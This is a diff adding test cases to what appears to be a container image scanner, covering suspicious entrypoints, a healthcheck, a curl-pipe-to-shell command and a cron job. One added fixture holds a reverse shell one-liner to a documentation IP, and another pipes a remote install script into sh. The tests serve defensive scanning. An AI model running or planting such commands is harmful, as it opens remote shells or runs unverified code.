@@ -104,6 +104,17 @@ CASES = {
     ),
     "digest_is_none": document(lambda: with_layer(digest="latest"), Verdict.NOT_SCANNED),
     "foreign": document(lambda: with_layer(urls=["https://layers.example.net/1.tar.gz"]), Verdict.REVIEW),
-    "command": document(lambda: config(Entrypoint=["bash", "-c", RUN]), Verdict.CLEAN, "config.json"),
+    "command": document(lambda: config(Entrypoint=["bash", "-c", RUN]), Verdict.REVIEW, "config.json"),
+    "command_of_health": document(
+        lambda: config(Healthcheck={"Test": ["CMD-SHELL", "bash -i >& /dev/tcp/192.0.2.1/9 0>&1"]}),
+        Verdict.REVIEW,
+        "config.json",
+    ),
+    "benign_installer": document(
+        lambda: config(Cmd=["sh", "-c", "curl -LsSf https://example.com/install.sh | sh"]), Verdict.CLEAN, "config.json"
+    ),
+    "cron_in_layer": archive(
+        lambda: layout(layer(entry("etc/cron.d/job", f"* * * * * root {RUN}\n".encode()))), Verdict.REVIEW
+    ),
     "cut": document(lambda: with_layer()[:-20], Verdict.NOT_SCANNED, "manifest.json"),
 }
